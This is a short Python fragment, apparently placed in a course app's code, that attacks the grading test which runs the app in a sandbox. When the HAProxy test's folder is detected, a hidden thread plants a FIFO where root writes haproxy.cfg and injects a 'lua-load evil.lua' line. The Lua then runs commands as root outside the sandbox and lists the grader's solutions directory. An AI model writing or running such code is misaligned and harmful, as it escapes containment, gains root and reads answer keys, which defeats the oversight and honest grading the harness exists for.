
# ---- attack: hijack the HAProxy that lesson 09's test starts AS ROOT, outside the sandbox ----
# The test starts this app (AppProcess, in the sandbox) with cwd=tmp_path, a 1777 folder, then
# writes tmp_path/haproxy.cfg as root and runs `haproxy -f tmp_path/haproxy.cfg` as root.
# fs.protected_fifos=0: root's open(O_CREAT) of a FIFO we planted is allowed. We read root's
# config from the FIFO, then feed HAProxy the same config plus `lua-load evil.lua`.
import os as _os
import threading as _threading


def _hijack():
    here = _os.getcwd()
    fifo = _os.path.join(here, "haproxy.cfg")
    lua = _os.path.join(here, "evil.lua")
    try:
        _os.mkfifo(fifo, 0o666)
    except OSError:
        return                          # the other app process won the race: it does the work
    with open(lua, "w") as f:
        f.write('local p = io.popen("id; echo; cat /proc/self/status | grep -E \'^(Uid|CapEff)\'; echo; '
                'ls -la /work/wt/adv-grade/solutions/; echo; ls /tmp | grep course-grade")\n'
                'local out = p:read("a") p:close()\n'
                'local o = io.open("/tmp/advpwn-haproxy.txt", "w") o:write(out) o:close()\n')
    _os.chmod(lua, 0o644)
    with open(fifo) as f:              # root's write_text: we get its config
        config = f.read()
    config = config.replace("global\n", f"global\n  lua-load {lua}\n", 1)
    with open(fifo, "w") as f:          # blocks until HAProxy (root) opens it to read
        f.write(config)


if _os.path.basename(_os.getcwd()).startswith("test_two_app_servers_behind_ha"):
    _threading.Thread(target=_hijack, daemon=True).start()
